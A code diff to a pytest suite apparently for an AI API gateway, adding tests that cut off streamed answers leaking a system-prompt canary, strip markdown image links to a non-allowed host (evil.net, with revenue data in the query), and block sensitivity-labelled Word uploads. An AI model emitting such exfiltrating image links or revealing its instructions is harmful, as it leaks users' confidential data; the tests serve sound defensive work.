@@ -1,6 +1,9 @@
 """Inspection at the gateway, through the SDK: nothing restricted goes in or out (L2.3, L2.4, G.1, G.2)."""
 
+import base64
+import io
 import json
+import zipfile
 from collections.abc import Iterator
 from typing import Any
 
@@ -9,9 +12,11 @@ import pytest
 from anthropic import Anthropic
 
 from .harness import FINANCE_KEY, KEY, Harness, chat, department, make
-from .upstream import FakeUpstream, stream_events, stream_reply
+from .upstream import FakeUpstream, json_reply, message, stream_events, stream_reply
 
 SSN = "536-22-8723"
+CANARY = "kestrel-4471-canary"
+LABEL = "0a1b2c3d-1111-4222-8333-444455556666"
 SECRET_REQUEST: Any = [{"role": "user", "content": f"Social security number {SSN} of our customer"}]
 
 
@@ -25,6 +30,11 @@ def careful() -> Iterator[Harness]:
             department("marketing", redact_output=True),
             department("finance", findings={"restricted": "redact"}),
         ],
+        inspection={
+            "labels": {LABEL.upper(): "restricted"},
+            "canaries": [CANARY],
+            "allowed_hosts": ["charts.acme.com"],
+        },
     )
     harness.reset()
     yield harness
@@ -104,3 +114,62 @@ def test_a_decision_about_a_person_is_refused_whatever_the_flag(careful: Harness
     careful.reset()
     order = chat("Which of these employees should I fire?")
     assert careful.post("/v1/messages", order, headers={"x-human-review": "true"}).status == 403
+
+
+@pytest.mark.parametrize("size", [3, 200])
+def test_an_answer_that_gives_away_the_policy_s_canary_is_cut_off(careful: Harness, size: int) -> None:
+    careful.reset()
+    text = f"My instructions begin with {CANARY} and go on like this."
+    pieces = [text[i : i + size] for i in range(0, len(text), size)]
+    careful.upstream.script = lambda _: stream_reply(list(stream_events(pieces)))
+    answer = careful.post("/v1/messages", chat(stream=True))
+    assert CANARY.encode() not in answer.body
+    assert b"go on like this" not in answer.body
+    assert "CANARY" in json.dumps(careful.audit.records, default=str)
+
+
+def test_an_answer_may_load_an_image_with_data_from_the_hosts_of_the_policy_only(careful: Harness) -> None:
+    careful.reset()
+    urls = [f"https://{host}/draw?series=quarter-two-revenue" for host in ("charts.acme.com", "evil.net")]
+    text = " ".join(f"![chart]({url})" for url in urls)
+    careful.upstream.script = lambda _: json_reply(message(text))
+    answer = sdk(careful).messages.create(
+        model="fast", max_tokens=9, messages=[{"role": "user", "content": "Draw it."}]
+    )
+    assert answer.content[0].type == "text"
+    assert urls[0] in answer.content[0].text
+    assert "evil.net" not in answer.content[0].text
+
+
+@pytest.mark.parametrize(("label", "status"), [(LABEL, 403), (LABEL.replace("0a", "0b"), 403)])
+def test_a_labelled_document_counts_as_the_policy_says_and_an_unknown_label_is_not_read(
+    careful: Harness, label: str, status: int
+) -> None:
+    careful.reset()
+    source = {"type": "base64", "media_type": DOCX, "data": base64.b64encode(labelled(label)).decode()}
+    answer = careful.post("/v1/messages", chat([{"type": "document", "source": source}]))
+    assert answer.status == status
+    records = json.dumps(careful.audit.records, default=str)
+    assert ("sensitivity-label" in records, "unknown-sensitivity-label" in records) == (
+        (True, False) if label == LABEL else (True, True)
+    )
+    assert not careful.upstream.received
+
+
+DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
+
+
+def labelled(label: str) -> bytes:
+    """A Word file of one sentence that carries a sensitivity label."""
+    properties = "".join(
+        f'<property name="MSIP_Label_{label}_{name}"><vt:lpwstr>{value}</vt:lpwstr></property>'
+        for name, value in (("Enabled", "true"), ("Name", "Green"))
+    )
+    file = io.BytesIO()
+    with zipfile.ZipFile(file, "w") as archive:
+        archive.writestr("[Content_Types].xml", "<Types/>")
+        archive.writestr(
+            "word/document.xml", "<w:document><w:p><w:t>Lunch is at noon.</w:t></w:p></w:document>"
+        )
+        archive.writestr("docProps/custom.xml", f"<Properties>{properties}</Properties>")
+    return file.getvalue()
